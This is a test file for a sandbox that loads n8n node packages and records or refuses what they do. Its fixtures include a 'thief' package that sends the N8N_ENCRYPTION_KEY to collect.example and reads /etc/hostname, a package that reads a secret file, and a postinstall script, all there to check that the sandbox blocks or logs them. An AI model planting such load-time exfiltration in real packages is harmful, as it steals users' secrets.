import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { packTar } from 'modern-tar';
import type { Capabilities } from '../../core/ports/capabilities/capabilities';
import { approvePackage } from '../../manifests/approval/approve-package';
import { signInstalled } from '../../manifests/scan/sign-installed';
import { startNpmRegistry } from '../../test/fakes/npm-registry';
import type { SandboxReport } from '../../sandbox/report/report-shape';
import { diskFolder } from '../../test/support/disk-folder';
import { describeSlow } from '../../test/support/slow-tests';
import { copyTestKeys } from '../../test/support/test-keys';
import { testTerminal } from '../../test/support/test-terminal';
import { runTroupe } from '../program';

let home: string;
/** An n8n with nothing but the package that nodes require. */
let n8n: string;
/** The trust folder of the next run. */
let trust: string | undefined;

beforeAll(() => {
	home = realpathSync(mkdtempSync(join(diskFolder, 'troupe-sandbox-package-')));
	n8n = join(home, 'n8n/node_modules/n8n');
	write('n8n/node_modules/n8n/package.json', JSON.stringify({ name: 'n8n', version: '2.0.0', engines: { node: '*' } }));
	write('n8n/node_modules/n8n-workflow/package.json', JSON.stringify({ name: 'n8n-workflow', version: '2.0.0', main: 'index.js' }));
	write('n8n/node_modules/n8n-workflow/index.js', `exports.NodeConnectionTypes = { Main: 'main' };`);
});
afterAll(() => rmSync(home, { recursive: true, force: true }));

function write(path: string, text: string): void {
	mkdirSync(join(home, path, '..'), { recursive: true });
	writeFileSync(join(home, path), text);
}

function writePackage(node: string): string {
	const named = { nodes: ['dist/Weather.node.js'], credentials: ['dist/WeatherApi.credentials.js'] };
	write('package/package.json', JSON.stringify({ name: 'n8n-nodes-weather', version: '1.2.3', n8n: named }));
	write('package/dist/Weather.node.js', node);
	write('package/dist/WeatherApi.credentials.js', `exports.WeatherApi = class { name = 'weatherApi'; };`);
	return join(home, 'package');
}

async function run(folder: string, ...more: Array<string | Record<string, string>>) {
	const options = more.filter((one) => typeof one === 'string');
	const npm = { PATH: process.env.PATH!, HOME: home, npm_config_cache: join(home, 'npm') };
	const terminal = testTerminal({
		TROUPE_HOME: join(home, 'home'),
		TROUPE_N8N: n8n,
		...(trust !== undefined && { TROUPE_TRUST: trust }),
		...npm,
		...Object.assign({}, ...more.filter((one) => typeof one === 'object')),
	});
	const code = await runTroupe(['sandbox', 'run', 'package', folder, ...options, '--json'], terminal);
	const document = JSON.parse(terminal.printed.join('\n') || '{}') as { stdout?: string; report: SandboxReport };
	const types = document.stdout === undefined ? {} : (JSON.parse(document.stdout) as Record<string, unknown>);
	return { ...document, code, types, noted: terminal.noted.join('\n') };
}

it('says that a package is missing', async () => {
	const { code, noted } = await run('n8n-nodes-missing');
	expect([code > 0, noted]).toEqual([true, expect.stringMatching(/no package n8n-nodes-missing/)]);
});

describe('a package that is not there', () => {
	it('is named when npm does not know it', async () => {
		const registry = await startNpmRegistry([]);
		try {
			const { code, noted } = await run('n8n-nodes-missing@1.0.0', { npm_config_registry: registry.url });
			expect([code > 0, noted]).toEqual([true, expect.stringMatching(/npm did not install n8n-nodes-missing@1\.0\.0.*404/)]);
		} finally {
			await registry.close();
		}
	});
});

/** Signs and approves the package as it is, with this list. */
async function approve(packageFolder: string, permissions?: Capabilities): Promise<string> {
	const [keysFolder, into] = [join(home, 'keys'), mkdtempSync(join(home, 'trust-'))];
	if (!existsSync(keysFolder)) await copyTestKeys(keysFolder);
	const request = { packageFolder, keysFolder, into, nowMs: Date.now(), days: 30 };
	await signInstalled({ ...request, ...(permissions && { permissions }) });
	await approvePackage({ ...request, approver: 'Ada' });
	return into;
}

describe('with the list of its manifest', () => {
	it('is refused for a package without a manifest or without a list', async () => {
		const folder = writePackage('exports.Weather = class {};');
		const without = await run(folder, '--capabilities', 'manifest');
		expect([without.code > 0, without.noted]).toEqual([true, expect.stringMatching(/no list of capabilities|No manifest/i)]);
		trust = await approve(folder);
		expect((await run(folder, '--capabilities', 'manifest')).noted).toMatch(/No manifest of n8n-nodes-weather 1\.2\.3 has a list/);
	});
});

describeSlow('on this machine', () => {
	const packed = async (node: string, more: object = {}) => {
		const named = { name: 'n8n-nodes-weather', version: '1.2.3', n8n: { nodes: ['dist/Weather.node.js'] }, ...more };
		const files = { 'package.json': JSON.stringify(named), 'dist/Weather.node.js': node };
		const entries = Object.entries(files).map(([name, text]) => ({
			header: { name: `package/${name}`, size: Buffer.byteLength(text), type: 'file' as const },
			body: text,
		}));
		return gzipSync(await packTar(entries));
	};
	const weather = `exports.Weather = class { description = { name: 'weather', displayName: 'Weather', version: 1 }; };`;

	it('says that a package names no nodes', async () => {
		write('empty/package.json', '{}');
		const { code, types, ...document } = await run(join(home, 'empty'));
		expect([code, types]).toEqual([1, { nodes: [], credentials: [] }]);
		expect((document as { stderr?: string }).stderr).toMatch(/^The package\.json names no nodes and no credential types of n8n\./);
	});

	it('prints the types of a package as lines for people', async () => {
		const terminal = testTerminal({ TROUPE_HOME: join(home, 'home'), TROUPE_N8N: n8n });
		expect(await runTroupe(['sandbox', 'run', 'package', writePackage(weather)], terminal)).toBe(0);
		expect(terminal.printed).toEqual([
			'node weather 1 "Weather" (dist/Weather.node.js)',
			'credential weatherApi (dist/WeatherApi.credentials.js)',
			'1 node, 1 credential type',
		]);
	});

	it('unpacks a tarball into a private folder, which goes', async () => {
		writeFileSync(join(home, 'weather.tgz'), await packed(weather));
		const { code, types, report } = await run(join(home, 'weather.tgz'));
		expect([code, types]).toMatchObject([0, { nodes: [{ name: 'weather' }] }]);
		expect(report.subject).toMatchObject({ kind: 'package', name: 'n8n-nodes-weather@1.2.3' });
	});

	it('fetches a version with npm, without running its scripts', async () => {
		const scripts = { postinstall: `node -e "require('fs').writeFileSync('${join(home, 'ran')}', '')"` };
		const tarball = await packed(weather, { scripts });
		const registry = await startNpmRegistry([
			{ name: 'n8n-nodes-weather', version: '1.2.3', manifest: { scripts, hasInstallScript: true }, tarball },
		]);
		try {
			const { code, types, noted } = await run('n8n-nodes-weather@1.2.3', { npm_config_registry: registry.url });
			expect([noted, code, types]).toMatchObject([expect.anything(), 0, { nodes: [{ name: 'weather' }] }]);
			expect(existsSync(join(home, 'ran'))).toBe(false);
		} finally {
			await registry.close();
		}
	});
	it('has what its manifest allows, and nothing else', async () => {
		for (const name of ['prices.csv', 'secret.csv']) write(name, name);
		const read = (name: string) =>
			`(() => { try { return require('fs').readFileSync('${join(home, name)}', 'utf8'); } catch { return 'refused'; } })()`;
		const folder = writePackage(`
			exports.Weather = class { description = { name: ${read('prices.csv')}, displayName: ${read('secret.csv')}, version: 1 }; };
		`);
		trust = await approve(folder, {
			version: 1,
			files: [
				{ path: '../prices.csv', access: 'read' },
				{ path: join(home, 'prices.csv'), access: 'read' },
			],
		});
		const { types, report, noted } = await run(folder, '--capabilities', 'manifest');
		expect([noted, types.nodes]).toEqual([
			expect.anything(),
			[{ file: 'dist/Weather.node.js', name: 'prices.csv', displayName: 'refused', versions: [1] }],
		]);
		expect(report.capabilities).toMatchObject({ files: [{ path: join(home, 'prices.csv') }], notGranted: [{ value: '../prices.csv' }] });
	}, 300_000);

	it('loads nodes and credential types, which find what n8n has', async () => {
		const { code, types, report } = await run(
			writePackage(`
				const { NodeConnectionTypes } = require('n8n-workflow');
				exports.Weather = class { description = { name: 'weather', displayName: 'Weather', version: [1, 2], outputs: [NodeConnectionTypes.Main] }; };
			`),
		);
		expect(types).toEqual({
			nodes: [{ file: 'dist/Weather.node.js', name: 'weather', displayName: 'Weather', versions: [1, 2] }],
			credentials: [{ file: 'dist/WeatherApi.credentials.js', name: 'weatherApi' }],
		});
		expect(report.subject).toMatchObject({ kind: 'package', name: 'n8n-nodes-weather@1.2.3' });
		expect(code).toBe(0);
	});

	it('shows what a package does while it is loaded', async () => {
		const thief = writePackage(`
			fetch('https://collect.example/?key=' + process.env.N8N_ENCRYPTION_KEY).catch(() => {});
			try { require('fs').readFileSync('/etc/hostname'); } catch {}
			exports.Weather = class { description = { name: 'weather', version: 1 }; };
		`);
		const { report, noted } = await run(thief, '--discover', join(home, 'capabilities.json'));
		if (noted.includes('SANDBOX_LEVEL_TOO_LOW') || report === undefined) return expect(noted).toMatch(/the run demands L0\+/);
		expect(report.requests).toMatchObject([{ method: 'GET', host: 'collect.example', action: 'refuse' }]);
		expect(JSON.parse(readFileSync(join(home, 'capabilities.json'), 'utf8'))).toMatchObject({
			requests: ['GET collect.example'],
			files: expect.arrayContaining([{ path: '/etc/hostname', access: 'read' }]) as unknown,
			environment: ['N8N_ENCRYPTION_KEY'],
		});
	});

	it('names a node that does not load', async () => {
		const { code, types } = await run(writePackage(`throw new Error('broken');`));
		expect(code).toBe(1);
		expect(types.nodes).toEqual([{ file: 'dist/Weather.node.js', error: 'broken' }]);
	});
});
